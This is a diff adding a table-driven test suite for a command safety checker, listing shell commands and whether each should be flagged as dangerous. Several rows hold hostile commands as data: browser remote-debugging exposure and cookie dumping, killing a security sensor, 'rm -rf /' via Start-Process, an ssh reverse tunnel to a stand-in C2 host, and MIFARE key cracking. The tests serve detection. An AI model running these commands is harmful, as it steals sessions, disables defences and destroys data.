@@ -3061,3 +3061,43 @@ describe('the seventy-ninth and eighty-first sets: chain nodes and wallet hunter
     if (reason) expect(r.reasons.join('; ')).toContain(reason);
   });
 });
+
+describe('the eighty-third and eighty-fourth sets: browsers debugged and their cookies, extension stores, PowerShell processes, cards and readers', () => {
+  it.each([
+    // A browser's debugging port open to every origin or on the user's own profile hands over its sessions.
+    ["start-process msedge.exe -ArgumentList '--remote-debugging-port=9222 --remote-allow-origins=* https://google.com'", true, 'every origin'],
+    ['google-chrome --remote-debugging-port=9222', true, "the user's own profile"],
+    ['chromium --headless --remote-debugging-port=9222 --user-data-dir=/tmp/profile', false],
+    ['python3 grab-cookies.py -p 9222', true, 'stored logins'],
+    ['./WhiteChocolateMacademiaNut --port 9222 --dump cookies --format raw', true, 'stored logins'],
+    ['chrome-remote list-tabs', true, 'stored logins'],
+    // PowerShell's processes are the machine's; Start-Process runs the program it names.
+    ['Stop-Process -Name falcon-sensor', true, 'security or logging daemon'],
+    ['stop-process -name sshd', true, 'service of the machine'],
+    ['Stop-Process -Id 4242', true, 'by pid'],
+    ['stop-process -name chrome', false],
+    ['Start-Process notepad.exe', false],
+    ["Start-Process rm -ArgumentList '-rf /'", true, 'root directory'],
+    ['ssh.exe -R 127.0.0.1:9222:127.0.0.1:9222 proxy@c2.example.com', true, 'ssh -R'],
+    ['git.exe status', false],
+    // Extensions published to the stores, images pushed through the image group.
+    ['web-ext sign', true, 'browser extension'],
+    ['web-ext build', false],
+    ['wxt submit', true, 'browser extension'],
+    ['wxt submit init', false],
+    ['wxt submit --help', false],
+    ['docker image push --all-tags electronuserland/builder', true, 'pushes an image'],
+    // Cards in a reader's field, their keys recovered, and a reader's firmware flashed.
+    ['nfc-list -v', true, 'contactless cards'],
+    ['nfc-list --help', false],
+    ['./mfkey64 9C599B32 82A4166C A1E458CE 6EEA41E0 5CADF439', true, 'cracks passwords'],
+    ['./mfcuk -C -R 0:A -v 2', true, 'cracks passwords'],
+    ['pm3-flash-all --force', true, 'attached board'],
+    ['nrfutil device program --firmware app.zip --traits nordicDfu', true, 'attached board'],
+    ['nrfutil device list', false],
+  ] as [string, boolean, string?][])('%s → dangerous %s', (cmd, dangerous, reason) => {
+    const r = checkCommand(cmd, WS);
+    expect(r.dangerous, r.reasons.join('; ')).toBe(dangerous);
+    if (reason) expect(r.reasons.join('; ')).toContain(reason);
+  });
+});
